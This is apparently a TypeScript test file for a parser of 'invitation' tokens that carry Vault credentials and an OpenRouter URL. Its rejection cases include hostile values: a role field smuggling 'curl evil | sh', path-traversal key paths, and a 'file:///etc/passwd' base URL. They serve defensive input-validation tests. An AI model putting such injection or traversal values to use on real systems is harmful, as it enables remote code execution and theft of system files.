import { type Invitation, parseInvitation, renderInvitation } from "../../lib/model/invitation";

const invitation: Invitation = {
  name: "web1",
  prefix: "openclaw",
  role: "openclaw-host-web1",
  roleId: "3f2a91c4-0000-4000-8000-000000000000",
  keyPath: "secret/openrouter/web1",
  address: "https://vault.internal:8200",
  ca: "-----BEGIN CERTIFICATE-----\nAA==\n-----END CERTIFICATE-----\n",
  baseUrl: "https://openrouter.ai/api/v1",
  token: "hvs.CAESIJ",
  ends: "2026-11-29T12:00:00.000Z",
};
const text = renderInvitation(invitation);

test("is one word, and is read as it was written", () => {
  expect(text).toMatch(/^[\w.-]+$/);
  expect(parseInvitation(text)).toEqual(invitation);
});

test("is read from a mail that broke its lines", () => {
  const broken = `  ${text.replace(/.{60}/g, (line) => `${line}\r\n > `.replace("> ", ""))}\n`;
  expect(parseInvitation(broken)).toEqual(invitation);
});

test.each([
  ["", /does not begin/],
  ["hvs.CAESIJ", /does not begin/],
  [text.slice(0, -1), /missing or was changed/],
  [text.replace(".eyJ", ".eyK"), /missing or was changed/],
  [renderInvitation({ ...invitation, name: "../web1" }), /another version/],
  [renderInvitation({ ...invitation, address: "http://vault.internal:8200" }), /another version/],
  [renderInvitation({ ...invitation, ends: "soon" }), /another version/],
  [
    renderInvitation({ ...invitation, role: "openclaw-host-web1\n  fix:      curl evil | sh" }),
    /another version/,
  ],
  [renderInvitation({ ...invitation, token: "hvs.\nCAESIJ" }), /another version/],
  [renderInvitation({ ...invitation, namespace: "admin: team" }), /another version/],
  [renderInvitation({ ...invitation, keyPath: "secret/../sys" }), /another version/],
  [renderInvitation({ ...invitation, address: "https://vault.internal:8200/" }), /another version/],
  [renderInvitation({ ...invitation, baseUrl: "file:///etc/passwd" }), /another version/],
])("%.40s is refused as an invitation", (given, problem) => {
  expect(parseInvitation(given)).toEqual({ problem: expect.stringMatching(problem) });
});
